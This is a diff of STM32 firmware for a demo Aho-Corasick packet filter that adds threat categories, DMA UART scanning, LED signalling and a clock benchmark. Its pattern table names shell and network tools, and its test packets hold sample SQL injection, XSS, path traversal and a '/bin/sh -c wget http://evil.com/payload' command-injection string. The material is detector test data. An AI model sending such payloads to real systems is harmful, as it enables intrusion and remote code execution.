@@ -21,6 +21,8 @@
 /* Includes ------------------------------------------------------------------*/
 #include "main.h"
 #include "aho_corasick.h"
+#include "uart_log.h"
+#include "event_log.h"
 #include <string.h>
 #include <stdio.h>
 
@@ -35,31 +37,99 @@
 typedef struct {
     const char* name;
     const char* content;
-    uint16_t length;
     bool is_malicious;
 } network_packet_t;
 
+typedef enum {
+    THREAT_SQL_INJECTION,
+    THREAT_XSS,
+    THREAT_COMMAND_INJECTION,
+    THREAT_NETWORK_EXPLOIT,
+    THREAT_FILE_INCLUSION,
+    THREAT_MALWARE,
+    NUM_THREAT_CATEGORIES
+} threat_category_t;
+
+typedef struct {
+    const char* pattern;
+    threat_category_t category;
+} threat_pattern_t;
+
 typedef struct {
     uint32_t total_packets;
     uint32_t malicious_packets;
     uint32_t clean_packets;
     uint32_t total_threats_found;
-    uint32_t current_packet_threats;
+    uint32_t threats_by_category[NUM_THREAT_CATEGORIES];
 } filter_stats_t;
 
+// Contexto de uma busca: vive na pilha de process_packet
+typedef struct {
+    filter_stats_t* stats;
+    uint32_t threats;
+    uint16_t packet_id;             // Vai em cada registro do event_log
+} packet_scan_t;
+
+// Etapas da demonstração, avançadas por app_step a cada volta do laço
+typedef enum {
+    APP_ANALYZE,                    // Um pacote de teste por vez, com pausa
+    APP_REPORT,                     // Estatísticas finais
+    APP_BENCHMARK,                  // Vazão do scanner em cada perfil de clock
+    APP_LIST_PATTERNS,              // Espera o log esvaziar e lista padrões
+    APP_WAIT_BUTTON                 // Parado até o EXTI do botão
+} app_state_t;
+
+// Sinalização do LED: acende no início e troca de estado a cada period_ms,
+// toggles vezes (LED_FOREVER: sem fim). Executada pelo SysTick.
+typedef struct {
+    uint16_t period_ms;
+    uint8_t toggles;
+} led_pattern_t;
+
+// Perfis de clock selecionáveis em tempo de execução
+typedef enum {
+    CLOCK_PROFILE_LOW_POWER,        // HSI 8 MHz direto, sem wait state
+    CLOCK_PROFILE_PERFORMANCE,      // PLL HSI/2 x 12 = 48 MHz, 1 wait state + prefetch
+    NUM_CLOCK_PROFILES
+} clock_profile_t;
+
+typedef struct {
+    uint32_t clock_mhz;
+    uint32_t packets_per_s;
+    uint32_t bytes_per_s;
+} bench_result_t;
+
 /* USER CODE END PTD */
 
 /* Private define ------------------------------------------------------------*/
 /* USER CODE BEGIN PD */
 
-#define LED_GREEN_Pin GPIO_PIN_5
-#define LED_GREEN_GPIO_Port GPIOA
-#define USER_BUTTON_Pin GPIO_PIN_13
-#define USER_BUTTON_GPIO_Port GPIOC
+// Pinos da STM32F0308-DISCO conforme o .ioc (main.h)
+#define LED_GREEN_Pin LD3_Pin
+#define LED_GREEN_GPIO_Port LD3_GPIO_Port
+#define USER_BUTTON_Pin B1_Pin
+#define USER_BUTTON_GPIO_Port B1_GPIO_Port
 
 #define NUM_TEST_PACKETS 10
 #define NUM_THREAT_PATTERNS 16
 
+// Buffer circular do DMA de recepção. Meia volta a 115200 baud são ~11 ms
+// de tráfego: é o tempo que o laço principal tem para consumir cada metade.
+#define RX_DMA_BUFFER_SIZE 256
+
+// Pausa entre pacotes de teste, só para acompanhar a saída; 0 analisa
+// todos em sequência e o ritmo passa a ser o do scanner
+#define PACKET_INTERVAL_MS 1000
+#define BUTTON_DEBOUNCE_MS 200
+
+#define LED_FOREVER 0xFF
+
+// Perfil em uso fora do benchmark (o mesmo do .ioc)
+#define CLOCK_PROFILE_DEFAULT CLOCK_PROFILE_PERFORMANCE
+
+// Tempo de medição de cada perfil no benchmark
+#define BENCH_DURATION_MS 250
+
 /* USER CODE END PD */
 
 /* Private macro -------------------------------------------------------------*/
@@ -69,38 +139,50 @@ typedef struct {
 
 /* Private variables ---------------------------------------------------------*/
 UART_HandleTypeDef huart2;
+DMA_HandleTypeDef hdma_usart2_rx;
+DMA_HandleTypeDef hdma_usart2_tx;
 
 /* USER CODE BEGIN PV */
 
 // Network threat patterns - optimized for ~80 vertices
-static const char* network_threat_patterns[NUM_THREAT_PATTERNS] = {
+// A categoria vai nos flags do padrão e chega ao callback a cada match
+static const threat_pattern_t network_threat_patterns[NUM_THREAT_PATTERNS] = {
     // SQL Injection patterns
-    "' OR 1=1",         // 8 chars
-    "UNION SELECT",     // 12 chars
-    "DROP TABLE",       // 10 chars
-    "admin'--",         // 8 chars
+    { "' OR 1=1",     THREAT_SQL_INJECTION },       // 8 chars
+    { "UNION SELECT", THREAT_SQL_INJECTION },       // 12 chars
+    { "DROP TABLE",   THREAT_SQL_INJECTION },       // 10 chars
+    { "admin'--",     THREAT_SQL_INJECTION },       // 8 chars
     
     // XSS patterns
-    "<script>",         // 8 chars
-    "javascript:",      // 11 chars
-    "alert(",           // 6 chars
+    { "<script>",     THREAT_XSS },                 // 8 chars
+    { "javascript:",  THREAT_XSS },                 // 11 chars
+    { "alert(",       THREAT_XSS },                 // 6 chars
     
     // Command injection
-    "/bin/sh",          // 7 chars
-    "cmd.exe",          // 7 chars
-    "wget ",            // 5 chars
+    { "/bin/sh",      THREAT_COMMAND_INJECTION },   // 7 chars
+    { "cmd.exe",      THREAT_COMMAND_INJECTION },   // 7 chars
+    { "wget ",        THREAT_COMMAND_INJECTION },   // 5 chars
     
     // Network exploits
-    "nc -l",            // 5 chars
-    "nmap",             // 4 chars
+    { "nc -l",        THREAT_NETWORK_EXPLOIT },     // 5 chars
+    { "nmap",         THREAT_NETWORK_EXPLOIT },     // 4 chars
     
     // File inclusion
-    "../",              // 3 chars
-    "..\\",             // 3 chars
+    { "../",          THREAT_FILE_INCLUSION },      // 3 chars
+    { "..\\",         THREAT_FILE_INCLUSION },      // 3 chars
     
     // Malware indicators
-    "payload",          // 7 chars
-    "exploit"           // 7 chars
+    { "payload",      THREAT_MALWARE },             // 7 chars
+    { "exploit",      THREAT_MALWARE }              // 7 chars
+};
+
+static const char* const threat_category_names[NUM_THREAT_CATEGORIES] = {
+    "SQL Injection",
+    "XSS",
+    "Command Injection",
+    "Network Exploit",
+    "File Inclusion",
+    "Malware"
 };
 
 // Static test packets simulating network traffic
@@ -108,76 +190,137 @@ static const network_packet_t test_packets[NUM_TEST_PACKETS] = {
     {
         "HTTP Request",
         "GET /index.html HTTP/1.1\r\nHost: example.com\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
-        0, false
+        false
     },
     {
         "SQL Injection Attack",
         "POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nusername=admin'-- &password=test",
-        0, true
+        true
     },
     {
         "XSS Attack",
         "GET /search?q=<script>alert('XSS')</script> HTTP/1.1\r\nHost: vulnerable.com\r\n\r\n",
-        0, true
+        true
     },
     {
         "Directory Traversal",
         "GET /../../../etc/passwd HTTP/1.1\r\nHost: target.com\r\n\r\n",
-        0, true
+        true
     },
     {
         "Normal HTTPS",
         "GET /secure/data HTTP/1.1\r\nHost: secure.com\r\nAuthorization: Bearer token123\r\n\r\n",
-        0, false
+        false
     },
     {
         "Command Injection",
         "POST /system HTTP/1.1\r\nContent-Type: text/plain\r\n\r\ncmd=ls; /bin/sh -c 'wget http://evil.com/payload'",
-        0, true
+        true
     },
     {
         "Port Scan Detection",
         "TCP SYN scan detected: nmap -sS -O target_host attempting port enumeration",
-        0, true
+        true
     },
     {
         "File Upload",
         "POST /upload HTTP/1.1\r\nContent-Type: multipart/form-data\r\n\r\nfilename=document.pdf",
-        0, false
+        false
     },
     {
         "SQL Union Attack",
         "GET /products?id=1 UNION SELECT username,password FROM users HTTP/1.1\r\n\r\n",
-        0, true
+        true
     },
     {
         "Clean API Call",
         "POST /api/v1/users HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"name\":\"John\",\"email\":\"john@example.com\"}",
-        0, false
+        false
     }
 };
 
+// Tamanho de cada pacote de teste, calculado em init_packet_filter
+// (test_packets fica na flash e não pode ser alterado)
+static uint16_t test_packet_lengths[NUM_TEST_PACKETS];
+
 static ac_automaton_t packet_filter;
+static ac_scanner_t packet_scanner;
 static filter_stats_t stats;
 static char output_buffer[256];
 
+// Recepção contínua: o DMA escreve em rx_dma_buffer sem parar e as
+// interrupções de meia transferência, transferência completa e linha ociosa
+// só avançam rx_dma_head. O laço principal entrega a região [tail, head)
+// direto ao scanner, sem cópia; o scanner mantém o estado entre regiões,
+// então padrões que cruzam a volta do buffer também são detectados.
+static uint8_t rx_dma_buffer[RX_DMA_BUFFER_SIZE];
+static volatile uint16_t rx_dma_head;       // Escrito só pelas interrupções
+static volatile uint32_t rx_dma_total;      // Bytes recebidos desde o reset
+static volatile uint32_t rx_dma_restarts;   // Recepções reiniciadas após erro
+static uint16_t rx_scan_tail;               // Escrito só pelo laço principal
+static uint32_t rx_scan_total;
+static uint32_t rx_scan_restarts;
+static uint32_t rx_overruns;                // Voltas do DMA perdidas
+static ac_scanner_t stream_scanner;
+static filter_stats_t stream_stats;
+static packet_scan_t stream_scan = { &stream_stats, 0, EVENT_PACKET_STREAM };
+
+static const led_pattern_t led_ready     = { 500, 1 };
+static const led_pattern_t led_clean     = { 200, 1 };
+static const led_pattern_t led_threat    = { 100, 5 };  // Três piscadas
+static const led_pattern_t led_heartbeat = { 1000, LED_FOREVER };
+
+// Estado do LED: escrito por led_start, consumido no SysTick
+static volatile uint16_t led_period;
+static volatile uint16_t led_countdown;
+static volatile uint8_t led_toggles_left;
+
+// Botão: o EXTI só marca o pedido, o laço principal o consome
+static volatile bool button_pressed;
+static volatile uint32_t button_last_tick;
+
+static const char* const clock_profile_names[NUM_CLOCK_PROFILES] = {
+    "low-power",
+    "performance"
+};
+
+static clock_profile_t clock_profile = CLOCK_PROFILE_DEFAULT;
+static ac_scanner_t bench_scanner;
+static uint32_t bench_matches;
+
+// Limites da seção .RamFunc, definidos no linker script
+extern const uint8_t _sramfunc[];
+extern const uint8_t _eramfunc[];
+
+static app_state_t app_state;
+static uint8_t app_packet;                  // Próximo pacote de teste
+static uint32_t app_due_tick;               // Quando o próximo passo pode rodar
+
 /* USER CODE END PV */
 
 /* Private function prototypes -----------------------------------------------*/
 void SystemClock_Config(void);
 static void MX_GPIO_Init(void);
+static void MX_DMA_Init(void);
 static void MX_USART2_UART_Init(void);
 
 /* USER CODE BEGIN PFP */
 
+static void start_uart_rx(void);
+static void poll_uart_rx(void);
+static void drain_event_log(void);
 static void init_packet_filter(void);
-static void process_packet(const network_packet_t* packet);
-static void analyze_all_packets(void);
+static void process_packet(const network_packet_t* packet, uint16_t length);
+static bool app_step(void);
+static void clock_set_profile(clock_profile_t profile);
+static void run_benchmark(void);
+static void bench_match_callback(const ac_match_t* match, void* ctx);
+static void restart_analysis(void);
 static void print_statistics(void);
-static void print_packet_analysis(const network_packet_t* packet);
-static void threat_detected_callback(const char* pattern, int position);
-static void indicate_threat_led(void);
-static void indicate_clean_led(void);
+static void print_packet_analysis(const network_packet_t* packet, uint16_t length,
+                                  uint32_t threats);
+static void threat_detected_callback(const ac_match_t* match, void* ctx);
+static void led_start(const led_pattern_t* pattern);
 
 /* USER CODE END PFP */
 
@@ -186,14 +329,47 @@ static void indicate_clean_led(void);
 /**
  * @brief Callback executado quando uma ameaça é detectada
  */
-static void threat_detected_callback(const char* pattern, int position) {
-    stats.total_threats_found++;
-    stats.current_packet_threats++;
+static void threat_detected_callback(const ac_match_t* match, void* ctx) {
+    packet_scan_t* scan = (packet_scan_t*)ctx;
     
-    // Log da ameaça detectada
-    snprintf(output_buffer, sizeof(output_buffer), 
-             "    THREAT: Pattern '%s' found at position %d\r\n", pattern, position);
-    HAL_UART_Transmit(&huart2, (uint8_t*)output_buffer, strlen(output_buffer), 1000);
+    scan->threats++;
+    scan->stats->total_threats_found++;
+    scan->stats->threats_by_category[match->pattern->flags]++;
+    
+    // Só o registro binário; o texto é montado em drain_event_log
+    event_log_push(HAL_GetTick(), (uint32_t)match->start, scan->packet_id, match->pattern_id);
+}
+
+/**
+ * @brief Esvazia o registro de ocorrências pela UART (fora da busca)
+ */
+static void drain_event_log(void) {
+    event_record_t record;
+    
+    while (event_log_pop(&record)) {
+#if EVENT_LOG_BINARY
+        // O host decodifica os quadros; nada de formatação aqui
+        event_log_frame_t frame;
+        event_log_frame(&record, &frame);
+        uart_log_write((const char*)&frame, sizeof(frame));
+#else
+        // pattern_id é o índice em network_threat_patterns (init_packet_filter)
+        const threat_pattern_t* threat = &network_threat_patterns[record.pattern_id];
+        uint32_t end = record.position + strlen(threat->pattern) - 1;
+        
+        if (record.packet_id == EVENT_PACKET_STREAM) {
+            uart_log_printf("    THREAT: [%s] Pattern '%s' found at UART bytes %lu-%lu (%lu ms)\r\n",
+                            threat_category_names[threat->category], threat->pattern,
+                            (unsigned long)record.position, (unsigned long)end,
+                            (unsigned long)record.timestamp);
+        } else {
+            uart_log_printf("    THREAT: [%s] Pattern '%s' found at bytes %lu-%lu (packet %u, %lu ms)\r\n",
+                            threat_category_names[threat->category], threat->pattern,
+                            (unsigned long)record.position, (unsigned long)end,
+                            record.packet_id, (unsigned long)record.timestamp);
+        }
+#endif
+    }
 }
 
 /**
@@ -201,30 +377,35 @@ static void threat_detected_callback(const char* pattern, int position) {
  */
 static void init_packet_filter(void) {
     // Inicializa o autômato Aho-Corasick
-    ac_init(&packet_filter, threat_detected_callback);
+    ac_init(&packet_filter);
     
     // Adiciona todos os padrões de ameaças
     uint8_t patterns_loaded = 0;
     for (int i = 0; i < NUM_THREAT_PATTERNS; i++) {
-        if (ac_add_pattern(&packet_filter, network_threat_patterns[i])) {
+        const threat_pattern_t* threat = &network_threat_patterns[i];
+        if (ac_add_pattern_ex(&packet_filter, threat->pattern, strlen(threat->pattern),
+                              i, threat->category, NULL)) {
             patterns_loaded++;
         } else {
             snprintf(output_buffer, sizeof(output_buffer), 
-                     "ERROR: Failed to load pattern %d: '%s'\r\n", i, network_threat_patterns[i]);
-            HAL_UART_Transmit(&huart2, (uint8_t*)output_buffer, strlen(output_buffer), 1000);
+                     "ERROR: Failed to load pattern %d: '%s'\r\n", i, threat->pattern);
+            uart_log_puts(output_buffer);
             break;
         }
     }
     
     // Constrói o autômato
     ac_build(&packet_filter);
+    ac_scanner_init(&packet_scanner, &packet_filter, threat_detected_callback, NULL);
+    ac_scanner_init(&stream_scanner, &packet_filter, threat_detected_callback, &stream_scan);
+    ac_scanner_init(&bench_scanner, &packet_filter, bench_match_callback, NULL);
     
     // Inicializa estatísticas
     memset(&stats, 0, sizeof(stats));
     
     // Calcula tamanhos dos pacotes
     for (int i = 0; i < NUM_TEST_PACKETS; i++) {
-        ((network_packet_t*)&test_packets[i])->length = strlen(test_packets[i].content);
+        test_packet_lengths[i] = (uint16_t)strlen(test_packets[i].content);
     }
     
     // Relatório de inicialização
@@ -232,42 +413,55 @@ static void init_packet_filter(void) {
              "\r\n=== STM32 Network Packet Filter Initialized ===\r\n"
              "Threat patterns loaded: %d/%d\r\n"
              "Vertices used: %d/80\r\n"
+             "Search engine: %s\r\n"
+             "Clock: %lu MHz (%s)\r\n"
+             "Scan code in RAM: %u bytes\r\n"
              "Test packets ready: %d\r\n\r\n",
              patterns_loaded, NUM_THREAT_PATTERNS, 
-             packet_filter.vertex_count, NUM_TEST_PACKETS);
-    HAL_UART_Transmit(&huart2, (uint8_t*)output_buffer, strlen(output_buffer), 2000);
+             packet_filter.vertex_count, ac_engine_name(ac_engine(&packet_filter)),
+             (unsigned long)(SystemCoreClock / 1000000), clock_profile_names[clock_profile],
+             (unsigned)(_eramfunc - _sramfunc), NUM_TEST_PACKETS);
+    uart_log_puts(output_buffer);
 }
 
 /**
  * @brief Processa um único pacote
  */
-static void process_packet(const network_packet_t* packet) {
+static void process_packet(const network_packet_t* packet, uint16_t length) {
+    packet_scan_t scan = { &stats, 0, 0 };
+    
     stats.total_packets++;
-    stats.current_packet_threats = 0;
+    scan.packet_id = (uint16_t)stats.total_packets;
     
     // Analisa o pacote com Aho-Corasick
-    ac_search(&packet_filter, packet->content);
+    packet_scanner.match_ctx = &scan;
+    ac_scanner_reset(&packet_scanner);
+    ac_scanner_feed(&packet_scanner, packet->content, length);
+    
+    // Busca terminada: agora sim as ocorrências viram texto
+    drain_event_log();
     
     // Classifica o resultado
-    if (stats.current_packet_threats > 0) {
+    if (scan.threats > 0) {
         stats.malicious_packets++;
-        indicate_threat_led();
+        led_start(&led_threat);
     } else {
         stats.clean_packets++;
-        indicate_clean_led();
+        led_start(&led_clean);
     }
     
     // Imprime análise do pacote
-    print_packet_analysis(packet);
+    print_packet_analysis(packet, length, scan.threats);
 }
 
 /**
  * @brief Imprime análise detalhada do pacote
  */
-static void print_packet_analysis(const network_packet_t* packet) {
-    const char* status = (stats.current_packet_threats > 0) ? "MALICIOUS" : "CLEAN";
+static void print_packet_analysis(const network_packet_t* packet, uint16_t length,
+                                  uint32_t threats) {
+    const char* status = (threats > 0) ? "MALICIOUS" : "CLEAN";
     const char* expected = packet->is_malicious ? "MALICIOUS" : "CLEAN";
-    const char* result = (stats.current_packet_threats > 0) == packet->is_malicious ? "CORRECT" : "MISSED";
+    const char* result = (threats > 0) == packet->is_malicious ? "CORRECT" : "MISSED";
     
     snprintf(output_buffer, sizeof(output_buffer), 
              "Packet: %s\r\n"
@@ -275,28 +469,193 @@ static void print_packet_analysis(const network_packet_t* packet) {
              "  Status: %s (%d threats)\r\n"
              "  Expected: %s\r\n"
              "  Detection: %s\r\n\r\n",
-             packet->name, packet->length, status, 
-             stats.current_packet_threats, expected, result);
-    HAL_UART_Transmit(&huart2, (uint8_t*)output_buffer, strlen(output_buffer), 2000);
+             packet->name, length, status, 
+             threats, expected, result);
+    uart_log_puts(output_buffer);
 }
 
 /**
- * @brief Analisa todos os pacotes de teste
+ * @brief Executa o próximo passo da demonstração, se já for a hora
+ * @retval true se fez algo; false se está esperando (tempo, log ou botão)
  */
-static void analyze_all_packets(void) {
-    HAL_UART_Transmit(&huart2, (uint8_t*)"=== Starting Packet Analysis ===\r\n\r\n", 38, 1000);
+static bool app_step(void) {
+    // Comparação com sinal: continua certa quando o tick dá a volta
+    if ((int32_t)(HAL_GetTick() - app_due_tick) < 0) return false;
     
-    for (int i = 0; i < NUM_TEST_PACKETS; i++) {
+    switch (app_state) {
+    case APP_ANALYZE:
+        if (app_packet == 0) {
+            uart_log_puts("=== Starting Packet Analysis ===\r\n\r\n");
+        }
         snprintf(output_buffer, sizeof(output_buffer), 
-                 "--- Analyzing Packet %d/%d ---\r\n", i+1, NUM_TEST_PACKETS);
-        HAL_UART_Transmit(&huart2, (uint8_t*)output_buffer, strlen(output_buffer), 1000);
+                 "--- Analyzing Packet %d/%d ---\r\n", app_packet + 1, NUM_TEST_PACKETS);
+        uart_log_puts(output_buffer);
+        
+        process_packet(&test_packets[app_packet], test_packet_lengths[app_packet]);
+        
+        // Pausa entre pacotes para visualização, sem bloquear
+        app_due_tick = HAL_GetTick() + PACKET_INTERVAL_MS;
+        if (++app_packet == NUM_TEST_PACKETS) {
+            app_state = APP_REPORT;
+        }
+        return true;
+        
+    case APP_REPORT:
+        uart_log_puts("=== Analysis Complete ===\r\n\r\n");
+        print_statistics();
+        app_state = APP_BENCHMARK;
+        return true;
+        
+    case APP_BENCHMARK:
+        // A troca de clock reconfigura a UART: o log precisa estar vazio
+        if (uart_log_pending() > 0) return false;
+        run_benchmark();
+        app_state = APP_LIST_PATTERNS;
+        return true;
+        
+    case APP_LIST_PATTERNS:
+        // O relatório é maior que o buffer de log: espera esvaziar antes da lista
+        if (uart_log_pending() > 0) return false;
+        
+        uart_log_puts("=== LOADED THREAT PATTERNS ===\r\n");
+        for (int i = 0; i < packet_filter.pattern_count; i++) {
+            snprintf(output_buffer, sizeof(output_buffer), 
+                     "%2d: '%.*s' (%s)\r\n", i+1,
+                     packet_filter.patterns[i].length, packet_filter.patterns[i].bytes,
+                     threat_category_names[packet_filter.patterns[i].flags]);
+            uart_log_puts(output_buffer);
+        }
+        uart_log_puts("\r\nPress USER button to restart analysis...\r\n\r\n");
+        
+        // LED heartbeat enquanto aguarda; pressões anteriores não contam
+        led_start(&led_heartbeat);
+        button_pressed = false;
+        app_state = APP_WAIT_BUTTON;
+        return true;
+        
+    case APP_WAIT_BUTTON:
+        if (!button_pressed) return false;
+        button_pressed = false;
+        restart_analysis();
+        return true;
+    }
+    return false;
+}
+
+/**
+ * @brief Conta matches no benchmark, sem log
+ */
+static void bench_match_callback(const ac_match_t* match, void* ctx) {
+    (void)match;
+    (void)ctx;
+    bench_matches++;
+}
+
+/**
+ * @brief Troca o perfil de clock e rederiva o que depende dele
+ */
+static void clock_set_profile(clock_profile_t profile) {
+    RCC_OscInitTypeDef RCC_OscInitStruct = {0};
+    RCC_ClkInitTypeDef RCC_ClkInitStruct = {0};
+    
+    // O que já está no buffer de log sairia com o baud errado
+    uart_log_flush();
+    
+    // O PLL só pode ser reconfigurado fora de uso: passa pelo HSI antes.
+    // HAL_RCC_ClockConfig ajusta a latência da flash na ordem certa.
+    RCC_ClkInitStruct.ClockType = RCC_CLOCKTYPE_HCLK|RCC_CLOCKTYPE_SYSCLK
+                                |RCC_CLOCKTYPE_PCLK1;
+    RCC_ClkInitStruct.SYSCLKSource = RCC_SYSCLKSOURCE_HSI;
+    RCC_ClkInitStruct.AHBCLKDivider = RCC_SYSCLK_DIV1;
+    RCC_ClkInitStruct.APB1CLKDivider = RCC_HCLK_DIV1;
+    if (HAL_RCC_ClockConfig(&RCC_ClkInitStruct, FLASH_LATENCY_0) != HAL_OK) {
+        Error_Handler();
+    }
+    
+    if (profile == CLOCK_PROFILE_PERFORMANCE) {
+        SystemClock_Config();
+        __HAL_FLASH_PREFETCH_BUFFER_ENABLE();
+    } else {
+        // Sem wait states o prefetch não adianta; desligado economiza energia
+        RCC_OscInitStruct.OscillatorType = RCC_OSCILLATORTYPE_NONE;
+        RCC_OscInitStruct.PLL.PLLState = RCC_PLL_OFF;
+        if (HAL_RCC_OscConfig(&RCC_OscInitStruct) != HAL_OK) {
+            Error_Handler();
+        }
+        __HAL_FLASH_PREFETCH_BUFFER_DISABLE();
+    }
+    clock_profile = profile;
+    
+    // O SysTick já foi refeito por HAL_RCC_ClockConfig (HAL_InitTick); o
+    // divisor de baud da UART vem do PCLK e precisa ser recalculado
+    if (huart2.gState != HAL_UART_STATE_RESET) {
+        HAL_UART_Abort(&huart2);
+        if (HAL_UART_Init(&huart2) != HAL_OK) {
+            Error_Handler();
+        }
+        rx_dma_head = 0;
+        rx_dma_restarts++;
+        start_uart_rx();
+    }
+}
+
+/**
+ * @brief Mede a vazão do scanner sobre os pacotes de teste em cada perfil
+ */
+static void run_benchmark(void) {
+    bench_result_t results[NUM_CLOCK_PROFILES];
+    
+    for (int p = 0; p < NUM_CLOCK_PROFILES; p++) {
+        uint32_t packets = 0, bytes = 0;
         
-        process_packet(&test_packets[i]);
+        clock_set_profile((clock_profile_t)p);
         
-        HAL_Delay(1000); // Pausa entre pacotes para visualização
+        // Duração fixa em vez de número fixo de voltas: a resolução de
+        // 1 ms do tick basta nos dois perfis
+        uint32_t start = HAL_GetTick();
+        uint32_t elapsed;
+        do {
+            uint32_t k = packets % NUM_TEST_PACKETS;
+            ac_scanner_reset(&bench_scanner);
+            ac_scanner_feed(&bench_scanner, test_packets[k].content, test_packet_lengths[k]);
+            packets++;
+            bytes += test_packet_lengths[k];
+            elapsed = HAL_GetTick() - start;
+        } while (elapsed < BENCH_DURATION_MS);
+        
+        results[p].clock_mhz = SystemCoreClock / 1000000;
+        results[p].packets_per_s = packets * 1000 / elapsed;
+        results[p].bytes_per_s = bytes * 1000 / elapsed;
     }
+    clock_set_profile(CLOCK_PROFILE_DEFAULT);
     
-    HAL_UART_Transmit(&huart2, (uint8_t*)"=== Analysis Complete ===\r\n\r\n", 31, 1000);
+    uart_log_puts("=== BENCHMARK ===\r\n");
+    for (int p = 0; p < NUM_CLOCK_PROFILES; p++) {
+        uart_log_printf("  %-12s %2lu MHz: %6lu packets/s %8lu bytes/s\r\n",
+                        clock_profile_names[p],
+                        (unsigned long)results[p].clock_mhz,
+                        (unsigned long)results[p].packets_per_s,
+                        (unsigned long)results[p].bytes_per_s);
+    }
+    uart_log_puts("\r\n");
+}
+
+/**
+ * @brief Zera as estatísticas e recomeça a análise do primeiro pacote
+ */
+static void restart_analysis(void) {
+    memset(&stats, 0, sizeof(stats));
+    memset(&stream_stats, 0, sizeof(stream_stats));
+    rx_overruns = 0;
+#if AC_ENABLE_STATS
+    memset(ac_scanner_stats(&packet_scanner), 0, sizeof(ac_stats_t));
+#endif
+    led_start(&led_clean);
+    
+    uart_log_puts("\r\n" "=== RESTARTING ANALYSIS ===\r\n\r\n");
+    app_state = APP_ANALYZE;
+    app_packet = 0;
+    app_due_tick = HAL_GetTick();
 }
 
 /**
@@ -320,30 +679,178 @@ static void print_statistics(void) {
              packet_filter.vertex_count, 
              (float)packet_filter.vertex_count / 80.0f * 100.0f,
              packet_filter.pattern_count);
-    HAL_UART_Transmit(&huart2, (uint8_t*)output_buffer, strlen(output_buffer), 3000);
+    uart_log_puts(output_buffer);
+    
+    // Ameaças por categoria
+    for (int i = 0; i < NUM_THREAT_CATEGORIES; i++) {
+        snprintf(output_buffer, sizeof(output_buffer), 
+                 "  %-18s %lu\r\n", threat_category_names[i], stats.threats_by_category[i]);
+        uart_log_puts(output_buffer);
+    }
+    uart_log_puts("\r\n");
+    
+    // Tráfego recebido pela UART
+    snprintf(output_buffer, sizeof(output_buffer), 
+             "=== LIVE UART TRAFFIC ===\r\n"
+             "Bytes received: %lu\r\n"
+             "Threats detected: %lu\r\n"
+             "Buffer overruns: %lu\r\n"
+             "Receiver restarts: %lu\r\n"
+             "Log messages dropped: %lu (%lu bytes)\r\n"
+             "Match events dropped: %lu\r\n\r\n",
+             (unsigned long)rx_scan_total, (unsigned long)stream_stats.total_threats_found,
+             (unsigned long)rx_overruns, (unsigned long)rx_scan_restarts,
+             (unsigned long)uart_log_dropped_messages(),
+             (unsigned long)uart_log_dropped_bytes(),
+             (unsigned long)event_log_dropped());
+    uart_log_puts(output_buffer);
+    
+#if AC_ENABLE_STATS
+    // Onde o tempo de busca foi gasto
+    const ac_stats_t* engine = ac_scanner_stats(&packet_scanner);
+    snprintf(output_buffer, sizeof(output_buffer), 
+             "=== ENGINE COUNTERS ===\r\n"
+             "Bytes scanned: %lu\r\n"
+             "Bytes skipped: %lu\r\n"
+             "Goto hits: %lu\r\n"
+             "Failure-link hops: %lu\r\n"
+             "Output-chain hops: %lu\r\n"
+             "Callbacks: %lu\r\n"
+             "Max hops per byte: %lu\r\n\r\n",
+             (unsigned long)engine->bytes_scanned, (unsigned long)engine->bytes_skipped,
+             (unsigned long)engine->goto_hits,
+             (unsigned long)engine->failure_hops, (unsigned long)engine->output_hops,
+             (unsigned long)engine->callbacks, (unsigned long)engine->max_hops_per_byte);
+    uart_log_puts(output_buffer);
+#endif
+}
+
+/**
+ * @brief Troca a sinalização do LED (a anterior é interrompida)
+ */
+static void led_start(const led_pattern_t* pattern) {
+    __disable_irq();
+    HAL_GPIO_WritePin(LED_GREEN_GPIO_Port, LED_GREEN_Pin, GPIO_PIN_SET);
+    led_period = pattern->period_ms;
+    led_countdown = pattern->period_ms;
+    led_toggles_left = pattern->toggles;
+    __enable_irq();
+}
+
+/**
+ * @brief Tick de 1 ms (contexto de interrupção): avança o LED
+ */
+void HAL_SYSTICK_Callback(void) {
+    if (led_toggles_left == 0 || --led_countdown > 0) return;
+    
+    HAL_GPIO_TogglePin(LED_GREEN_GPIO_Port, LED_GREEN_Pin);
+    led_countdown = led_period;
+    if (led_toggles_left != LED_FOREVER) led_toggles_left--;
+}
+
+/**
+ * @brief Borda de subida do botão (contexto de interrupção)
+ */
+void HAL_GPIO_EXTI_Callback(uint16_t GPIO_Pin) {
+    if (GPIO_Pin != USER_BUTTON_Pin) return;
+    
+    // Debounce: bordas logo após a última aceita são repique do contato
+    uint32_t now = HAL_GetTick();
+    if (now - button_last_tick < BUTTON_DEBOUNCE_MS) return;
+    button_last_tick = now;
+    button_pressed = true;
 }
 
 /**
- * @brief Indica ameaça detectada via LED
+ * @brief Inicia a recepção circular por DMA
  */
-static void indicate_threat_led(void) {
-    // LED pisca rápido (vermelho simulado)
-    for (int i = 0; i < 3; i++) {
-        HAL_GPIO_WritePin(LED_GREEN_GPIO_Port, LED_GREEN_Pin, GPIO_PIN_SET);
-        HAL_Delay(100);
-        HAL_GPIO_WritePin(LED_GREEN_GPIO_Port, LED_GREEN_Pin, GPIO_PIN_RESET);
-        HAL_Delay(100);
+static void start_uart_rx(void) {
+    // ReceiveToIdle gera evento na meia transferência, na transferência
+    // completa e quando a linha fica ociosa; nenhuma interrupção por byte.
+    if (HAL_UARTEx_ReceiveToIdle_DMA(&huart2, rx_dma_buffer, RX_DMA_BUFFER_SIZE) != HAL_OK) {
+        Error_Handler();
     }
 }
 
 /**
- * @brief Indica pacote limpo via LED
+ * @brief Novo trecho recebido pelo DMA (contexto de interrupção)
  */
-static void indicate_clean_led(void) {
-    // LED acende por 200ms (verde)
-    HAL_GPIO_WritePin(LED_GREEN_GPIO_Port, LED_GREEN_Pin, GPIO_PIN_SET);
-    HAL_Delay(200);
-    HAL_GPIO_WritePin(LED_GREEN_GPIO_Port, LED_GREEN_Pin, GPIO_PIN_RESET);
+void HAL_UARTEx_RxEventCallback(UART_HandleTypeDef *huart, uint16_t Size) {
+    if (huart != &huart2) return;
+
+    // Size é a posição de escrita do DMA no buffer; RX_DMA_BUFFER_SIZE
+    // na transferência completa, que equivale ao início da próxima volta
+    uint16_t head = Size % RX_DMA_BUFFER_SIZE;
+    rx_dma_total += (uint16_t)(head - rx_dma_head + RX_DMA_BUFFER_SIZE) % RX_DMA_BUFFER_SIZE;
+    rx_dma_head = head;
+}
+
+/**
